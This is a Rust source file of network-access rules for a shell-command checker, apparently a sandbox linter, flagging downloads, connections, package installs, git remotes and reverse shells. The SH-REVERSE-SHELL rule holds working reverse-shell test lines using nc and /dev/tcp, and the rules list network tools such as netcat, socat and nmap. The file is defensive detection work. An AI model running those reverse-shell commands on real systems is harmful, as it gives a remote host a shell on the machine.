//! Network access.

use super::super::{Category::*, Rule, Severity::*, When, commands};

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "SH-DOWNLOAD",
        category: Network,
        severity: Low,
        message: "`{}` makes a network request",
        suggestion: "request network access (--network full), or pass the data as files",
        when: &[When::Command(&["curl", "wget", "aria2c", "http", "https", "lynx"])],
        matches: &["curl http://a", "c\"ur\"l http://a", "timeout 5 wget http://a"],
        leaves: &["echo curl", "man wget"],
    },
    Rule {
        id: "SH-REVERSE-SHELL",
        category: Network,
        severity: Critical,
        message: "`{}` can give a remote host a shell",
        suggestion: "remove it; nothing in a sandbox needs it",
        when: &[
            When::CommandWith(&["nc", "ncat", "netcat", "socat"], commands::listens),
            When::Redirect(commands::is_network_file),
        ],
        matches: &[
            "nc -e /bin/sh 1.2.3.4 80",
            "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
            "echo a > /dev/tcp/1.2.3.4/80",
        ],
        leaves: &["nc -z host 80", "echo /dev/tcp"],
    },
    Rule {
        id: "SH-CONNECT",
        category: Network,
        severity: Medium,
        message: "`{}` opens a network connection",
        suggestion: "request network access (--network full), or pass the data as files",
        when: &[When::Command(&[
            "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "rsync", "ftp", "ping", "dig",
            "nslookup", "nmap",
        ])],
        matches: &["ssh a@b", "ping -c 1 a"],
        leaves: &["echo ssh", "ssh-keygen -t ed25519"],
    },
    Rule {
        id: "SH-INSTALL",
        category: Network,
        severity: Low,
        message: "`{}` downloads packages",
        suggestion: "list packages with --dep, or use an image that contains them",
        when: &[When::CommandWith(
            &[
                "pip", "pip3", "npm", "yarn", "pnpm", "apt", "apt-get", "apk", "dnf", "yum", "brew", "gem",
                "cargo", "go", "conda", "uv",
            ],
            commands::installs,
        )],
        matches: &["pip install requests", "sudo apt-get -y install curl"],
        leaves: &["pip list", "npm test", "cargo build"],
    },
    Rule {
        id: "SH-GIT",
        category: Network,
        severity: Low,
        message: "`{}` connects to a server",
        suggestion: "request network access (--network full), or pass the data as files",
        when: &[When::CommandWith(&["git"], commands::git_remote)],
        matches: &["git clone http://a", "git -q pull"],
        leaves: &["git status", "git log clone"],
    },
];
